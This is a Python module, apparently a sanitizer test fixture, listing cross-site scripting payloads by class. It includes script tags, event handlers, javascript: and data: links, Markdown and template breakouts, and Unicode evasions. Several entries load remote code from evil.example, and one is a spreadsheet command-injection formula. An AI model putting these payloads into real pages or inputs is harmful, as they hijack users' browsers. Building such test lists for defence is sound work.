"""What an attacker writes where a person writes a name or a text, by class. Every one would run in a page that showed it as it came, or as an
attribute, an address, Markdown, a style or a template. The word `pwned` marks what would run."""

ELEMENTS = [
    "<script>pwned()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\x20type=module>pwned()</script>", "<script/x>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>", "<<script>pwned();//<</script>", "<script>pwned()", "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>", "</style><script>pwned()</script>", "--><script>pwned()</script>", "]]><script>pwned()</script>",
    "<noscript><p title=\"</noscript><script>pwned()</script>\">", "<template><script>pwned()</script></template>",
]
HANDLERS = [
    "<img src=x onerror=pwned()>", "<img src=x onerror=\"pwned()\"//", "<IMG SRC=x ONERROR=pwned()>", "<img/src=x/onerror=pwned()>", "<svg onload=pwned()>",
    "<svg/onload=pwned()>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><script>pwned()</script></svg>", "<math><mtext onclick=pwned()>x</mtext></math>",
    "<body onload=pwned()>", "<details open ontoggle=pwned()>", "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>", "<marquee onstart=pwned()>", "<p onmouseover=pwned()>x</p>", "<a onclick=pwned()>x</a>", "<form onsubmit=pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
]
EMBEDS = [
    "<iframe src=javascript:pwned()></iframe>", "<iframe srcdoc=\"<script>pwned()</script>\"></iframe>", "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<p style=\"background:url(javascript:pwned())\">x</p>",
    "<applet code=pwned></applet>", "<frameset onload=pwned()>", "<math><a xlink:href=javascript:pwned()>x</a></math>",
]
ATTRIBUTES = [
    "\" onmouseover=pwned() x=\"", "' onmouseover=pwned() x='", "\"><script>pwned()</script>", "'><script>pwned()</script>", "\" autofocus onfocus=pwned() \"",
    "` onmouseover=pwned() `", "\"><img src=x onerror=pwned()>", "x\" style=\"background:red", "&quot; onmouseover=pwned()", "&#34; onmouseover=pwned() &#34;",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
]
MARKDOWN = [
    "[x](javascript:pwned())", "[x](JaVaScRiPt:pwned())", "[x](&#106;avascript:pwned())", "[x](java\tscript:pwned())", "[x](<javascript:pwned()>)", "[x]: javascript:pwned()\n\n[x]",
    "[x](vbscript:pwned())", "[x](data:text/html,<script>pwned()</script>)", "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)", "![x](javascript:pwned())",
    "![x\" onerror=\"pwned()](x)", "[x](x \"onclick=pwned() \\\"\")", "<javascript:pwned()>", "```\"><script>pwned()</script>\nx\n```", "`<script>pwned()</script>`",
    "[<img src=x onerror=pwned()>](http://x)", "> <script>pwned()</script>", "[a](http://x\" onclick=\"pwned())",
]
TEMPLATES = ["{{{title}}}<script>pwned()</script>", "{{app.name}}", "{{{slot_after_html}}}", "{{>layout}}", "{{=<% %>=}}<script>pwned()</script>", "{title}{summary}"]
EXOTIC = ["\u003cscript\u003epwned()\u003c/script\u003e", "\uff1cscript\uff1epwned()\uff1c/script\uff1e", "<\u200bscript>pwned()</script>", "\u202e<script>pwned()</script>",
          "<ſcript>pwned()</ſcript>", "<script\u00a0>pwned()</script>", "javascript:pwned()", "=cmd|' /C calc'!A0"]

# What a parser reads as an unknown element, or as one long address: there for filters that cut a part out and leave the rest.
INERT_ALONE = {"<scr<script>ipt>pwned()</scr</script>ipt>", "<img/src=x/onerror=pwned()>"}

ALL = ELEMENTS + HANDLERS + EMBEDS + ATTRIBUTES + MARKDOWN + TEMPLATES + EXOTIC


def lines():
    """Those that a field of one line takes: no line break, no tab."""
    return [each for each in ALL if not set(each) & set("\n\t\r")]
